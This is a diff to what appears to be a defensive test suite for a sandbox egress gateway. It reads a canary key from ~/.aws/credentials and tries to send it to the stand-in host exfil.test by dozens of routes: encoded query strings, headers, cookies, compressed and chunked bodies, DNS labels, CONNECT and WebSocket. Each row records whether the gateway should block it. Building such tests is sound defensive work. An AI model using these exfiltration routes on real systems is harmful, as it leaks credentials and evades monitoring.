@@ -20,6 +20,8 @@ import { encodeClientFrame } from './websocket-client-frames.js';
  * honest reason it cannot be caught.
  */
 export const HOST = 'exfil.test';
+/** The two halves of a split secret go to one host: the per-host window is what catches them. */
+const SPLIT_HOST = `split.${HOST}`;
 type Encode = (secret: string) => string;
 const ENCODINGS: Record<string, Encode> = {
   raw: (s) => s,
@@ -30,7 +32,8 @@ const ENCODINGS: Record<string, Encode> = {
   percent: (s) => [...Buffer.from(s)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join(''),
   'double percent': (s) => [...Buffer.from(s)].map((b) => `%25${b.toString(16).padStart(2, '0')}`).join(''),
   'hex with dashes': (s) => [...Buffer.from(s)].map((b) => b.toString(16).padStart(2, '0')).join('-'),
-  'zero-width between letters': (s) => [...s].join('\u200b'),
+  // As a client sends it: the characters percent-encoded in the URL, raw bytes in a body.
+  'zero-width between letters': (s) => [...s].join('%E2%80%8B'),
 };
 const PASSES: Record<string, string> = {
   reversed: 'no decoder reads text backwards; any reversible transform the agent invents is a known limit',
@@ -47,19 +50,23 @@ const TRANSFORMS: Record<string, Encode> = {
 export interface ExfilRow {
   way: string;
   expect: 'blocked' | 'passes';
-  /** Why it passes, for a 'passes' row. */
+  /** Why it passes, for a 'passes' row; for a blocked row refused before inspection, how. */
   reason?: string;
-  build: (id: string, secret: string, port: number) => Exchange;
+  /** Refused by the gateway's request parsing before inspection: the status it answers. */
+  refusedWith?: string;
+  /** `host`: this row's own name under the allowed `*.exfil.test`, so its decision is told apart by host. */
+  build: (id: string, secret: string, port: number, host: string) => Exchange;
 }
 
-const target = (port: number, path: string) => `http://${HOST}:${port}${path}`;
-const hostHeader = (port: number) => `${HOST}:${port}`;
+const target = (host: string, port: number, path: string) => `http://${host}:${port}${path}`;
+const hostHeader = (host: string, port: number) => `${host}:${port}`;
 function request(
   id: string,
   port: number,
+  rowHost: string,
   opts: { method?: string; path?: string; headers?: Record<string, string>; body?: Buffer; host?: string },
 ): Exchange {
-  const host = opts.host ?? HOST;
+  const host = opts.host ?? rowHost;
   const t = `http://${host}:${port}${opts.path ?? '/'}`;
   return {
     id,
@@ -73,37 +80,45 @@ function rows(): ExfilRow[] {
   const add = (way: string, build: ExfilRow['build'], passes?: string) =>
     out.push({ way, expect: passes ? 'passes' : 'blocked', reason: passes, build });
   for (const [name, enc] of Object.entries(ENCODINGS))
-    add(`query, ${name}`, (id, s, p) => request(id, p, { method: 'GET', path: `/q?d=${enc(s)}` }));
+    add(`query, ${name}`, (id, s, p, h) => request(id, p, h, { method: 'GET', path: `/q?d=${enc(s)}` }));
   for (const [name, enc] of Object.entries(TRANSFORMS))
-    add(`query, ${name}`, (id, s, p) => request(id, p, { method: 'GET', path: `/q?d=${enc(s)}` }), PASSES[name]);
+    add(`query, ${name}`, (id, s, p, h) => request(id, p, h, { method: 'GET', path: `/q?d=${enc(s)}` }), PASSES[name]);
   for (const name of ['raw', 'base64url', 'hex'])
-    add(`path segment, ${name}`, (id, s, p) => request(id, p, { method: 'GET', path: `/a/${ENCODINGS[name](s)}/b` }));
+    add(`path segment, ${name}`, (id, s, p, h) =>
+      request(id, p, h, { method: 'GET', path: `/a/${ENCODINGS[name](s)}/b` }),
+    );
   for (const name of ['raw', 'base64', 'hex'])
-    add(`custom header, ${name}`, (id, s, p) => request(id, p, { headers: { 'X-Data': ENCODINGS[name](s) } }));
-  add('Authorization: Bearer', (id, s, p) => request(id, p, { headers: { Authorization: `Bearer ${s}` } }));
-  add('Cookie', (id, s, p) => request(id, p, { headers: { Cookie: `a=1; t=${s}` } }));
-  add('Referer', (id, s, p) => request(id, p, { headers: { Referer: `http://x.test/?k=${s}` } }));
-  add('User-Agent, base64', (id, s, p) => request(id, p, { headers: { 'User-Agent': ENCODINGS.base64(s) } }));
-  add('userinfo in the absolute URL', (id, s, p) => ({
-    id,
-    host: HOST,
-    pieces: [rawRequest({ id, method: 'GET', target: `http://u:${s}@${HOST}:${p}/`, hostHeader: hostHeader(p) })],
-  }));
+    add(`custom header, ${name}`, (id, s, p, h) => request(id, p, h, { headers: { 'X-Data': ENCODINGS[name](s) } }));
+  add('Authorization: Bearer', (id, s, p, h) => request(id, p, h, { headers: { Authorization: `Bearer ${s}` } }));
+  add('Cookie', (id, s, p, h) => request(id, p, h, { headers: { Cookie: `a=1; t=${s}` } }));
+  add('Referer', (id, s, p, h) => request(id, p, h, { headers: { Referer: `http://x.test/?k=${s}` } }));
+  add('User-Agent, base64', (id, s, p, h) => request(id, p, h, { headers: { 'User-Agent': ENCODINGS.base64(s) } }));
+  out.push({
+    way: 'userinfo in the absolute URL',
+    expect: 'blocked',
+    refusedWith: '400',
+    reason: 'a proxy URL with userinfo is a bad request: refused before its target is read (bad_request)',
+    build: (id, s, p, h) => ({
+      id,
+      host: h,
+      pieces: [rawRequest({ id, method: 'GET', target: `http://u:${s}@${h}:${p}/`, hostHeader: hostHeader(h, p) })],
+    }),
+  });
   for (const name of ['raw', 'base64', 'hex', 'percent'])
-    add(`JSON body, ${name}`, (id, s, p) =>
-      request(id, p, {
+    add(`JSON body, ${name}`, (id, s, p, h) =>
+      request(id, p, h, {
         headers: { 'Content-Type': 'application/json' },
         body: Buffer.from(`{"v":"${ENCODINGS[name](s)}"}`),
       }),
     );
-  add('form body, percent', (id, s, p) =>
-    request(id, p, {
+  add('form body, percent', (id, s, p, h) =>
+    request(id, p, h, {
       headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
       body: Buffer.from(`a=1&k=${ENCODINGS.percent(s)}`),
     }),
   );
-  add('multipart file, base64', (id, s, p) =>
-    request(id, p, {
+  add('multipart file, base64', (id, s, p, h) =>
+    request(id, p, h, {
       headers: { 'Content-Type': 'multipart/form-data; boundary=XyZ' },
       body: Buffer.from(
         `--XyZ\r\nContent-Disposition: form-data; name="f"; filename="c.txt"\r\n` +
@@ -111,21 +126,21 @@ function rows(): ExfilRow[] {
       ),
     }),
   );
-  add('gzip body', (id, s, p) =>
-    request(id, p, { headers: { 'Content-Encoding': 'gzip' }, body: gzipSync(`data ${s} end`) }),
+  add('gzip body', (id, s, p, h) =>
+    request(id, p, h, { headers: { 'Content-Encoding': 'gzip' }, body: gzipSync(`data ${s} end`) }),
   );
-  add('deflate body', (id, s, p) =>
-    request(id, p, { headers: { 'Content-Encoding': 'deflate' }, body: deflateSync(`data ${s} end`) }),
+  add('deflate body', (id, s, p, h) =>
+    request(id, p, h, { headers: { 'Content-Encoding': 'deflate' }, body: deflateSync(`data ${s} end`) }),
   );
-  add('brotli body', (id, s, p) =>
-    request(id, p, { headers: { 'Content-Encoding': 'br' }, body: brotliCompressSync(`data ${s} end`) }),
+  add('brotli body', (id, s, p, h) =>
+    request(id, p, h, { headers: { 'Content-Encoding': 'br' }, body: brotliCompressSync(`data ${s} end`) }),
   );
-  add('chunked body, secret cut between chunks and writes', (id, s, p) => {
+  add('chunked body, secret cut between chunks and writes', (id, s, p, h) => {
     const head = rawRequest({
       id,
       method: 'POST',
-      target: target(p, '/'),
-      hostHeader: hostHeader(p),
+      target: target(h, p, '/'),
+      hostHeader: hostHeader(h, p),
       headers: { 'Transfer-Encoding': 'chunked' },
     });
     const a = `x${s.slice(0, 9)}`;
@@ -133,45 +148,45 @@ function rows(): ExfilRow[] {
     const chunk = (t: string) => Buffer.from(`${t.length.toString(16)}\r\n${t}\r\n`);
     return {
       id,
-      host: HOST,
+      host: h,
       pieces: [Buffer.concat([head, chunk(a)]), Buffer.concat([chunk(b), Buffer.from('0\r\n\r\n')])],
     };
   });
-  add('Expect: 100-continue body', (id, s, p) =>
-    request(id, p, { headers: { Expect: '100-continue' }, body: Buffer.from(`k=${s}`) }),
+  add('Expect: 100-continue body', (id, s, p, h) =>
+    request(id, p, h, { headers: { Expect: '100-continue' }, body: Buffer.from(`k=${s}`) }),
   );
-  add('HTTP/1.0 without Host, query', (id, s, p) => ({
+  add('HTTP/1.0 without Host, query', (id, s, p, h) => ({
     id,
-    host: HOST,
-    pieces: [rawRequest({ id, method: 'GET', target: target(p, `/?k=${s}`), version: '1.0' })],
+    host: h,
+    pieces: [rawRequest({ id, method: 'GET', target: target(h, p, `/?k=${s}`), version: '1.0' })],
   }));
-  add('host label, hex, under *.exfil.test', (id, s, p) =>
-    request(id, p, { method: 'GET', host: `${Buffer.from(s).toString('hex')}.${HOST}` }),
+  add('host label, hex, under *.exfil.test', (id, s, p, h) =>
+    request(id, p, h, { method: 'GET', host: `${Buffer.from(s).toString('hex')}.${h}` }),
   );
-  add('host label, raw, under *.exfil.test', (id, s, p) =>
-    request(id, p, { method: 'GET', host: `${s.toLowerCase()}.${HOST}` }),
+  add('host label, raw, under *.exfil.test', (id, s, p, h) =>
+    request(id, p, h, { method: 'GET', host: `${s.toLowerCase()}.${h}` }),
   );
-  add('CONNECT authority, hex label', (id, s, p) => {
-    const host = `${Buffer.from(s).toString('hex')}.${HOST}`;
+  add('CONNECT authority, hex label', (id, s, p, h) => {
+    const host = `${Buffer.from(s).toString('hex')}.${h}`;
     return { id, host, pieces: [Buffer.from(`CONNECT ${host}:${p} HTTP/1.1\r\nHost: ${host}:${p}\r\n\r\n`)] };
   });
   add(
     'split across requests, first half',
-    (id, s, p) => request(id, p, { method: 'GET', path: `/q?part=${s.slice(0, 10)}` }),
+    (id, s, p) => request(id, p, SPLIT_HOST, { method: 'GET', path: `/q?part=${s.slice(0, 10)}` }),
     'half a key is not a key: the request that completes it is the one refused',
   );
   add('split across requests, second half', (id, s, p) =>
-    request(id, p, { method: 'GET', path: `/q?part=${s.slice(10)}` }),
+    request(id, p, SPLIT_HOST, { method: 'GET', path: `/q?part=${s.slice(10)}` }),
   );
   const ws =
     (frames: (s: string) => Buffer): ExfilRow['build'] =>
-    (id, s, p) => ({
+    (id, s, p, h) => ({
       id,
-      host: HOST,
+      host: h,
       pieces: [
-        Buffer.from(`CONNECT ${hostHeader(p)} HTTP/1.1\r\nHost: ${hostHeader(p)}\r\n\r\n`),
+        Buffer.from(`CONNECT ${hostHeader(h, p)} HTTP/1.1\r\nHost: ${hostHeader(h, p)}\r\n\r\n`),
         Buffer.alloc(0),
-        webSocketUpgrade(id, '/ws', hostHeader(p)),
+        webSocketUpgrade(id, '/ws', hostHeader(h, p)),
       ],
       frames: frames(s),
     });
@@ -197,6 +212,8 @@ function rows(): ExfilRow[] {
 
 export const EXFIL_ROWS = rows();
 
+export const rowHost = (i: number) => `r${i}.${HOST}`;
+
 export interface ExfilResult {
   row: ExfilRow;
   result: ExchangeResult;
@@ -207,20 +224,26 @@ export async function runExfil(h: BottleHarness, runtime: 'runsc' | 'runc'): Pro
   try {
     server = await startBenchServer();
     const port = server.port;
-    // Names under the wildcard are not pinned: one that got past inspection would fail its lookup (.test).
+    // Names made from the secret are not pinned: one that got past inspection would fail its lookup (.test).
     const identity = await startBenchBottle(h, {
-      allow: [`${HOST}:${port}`, `*.${HOST}:${port}`],
-      hosts: [HOST],
+      allow: [`*.${HOST}:${port}`],
+      hosts: [SPLIT_HOST, ...EXFIL_ROWS.map((_, i) => rowHost(i))],
       runtime,
     });
     // The canary is read where an agent would find it.
     const credentials = await inBottle(h, identity, ['cat', '/home/node/.aws/credentials']);
     const secret = /aws_access_key_id\s*=\s*(\S+)/.exec(credentials)?.[1];
     if (!secret) throw new Error('no canary in ~/.aws/credentials');
-    const exchanges = EXFIL_ROWS.map((row, i) => row.build(`exfil-${i}`, secret, port));
+    const exchanges = EXFIL_ROWS.map((row, i) => row.build(`exfil-${i}`, secret, port, rowHost(i)));
     const results = await runExchanges(h, identity, server, exchanges);
     return EXFIL_ROWS.map((row, i) => ({ row, result: results[i] }));
   } finally {
     await server?.stop();
   }
+}
+
+/** A row's outcome as the table and the test judge it. */
+export function exfilBlocked(row: ExfilRow, result: ExchangeResult): boolean {
+  if (result.arrived) return false;
+  return row.refusedWith ? result.status === row.refusedWith : result.denied !== undefined;
 }
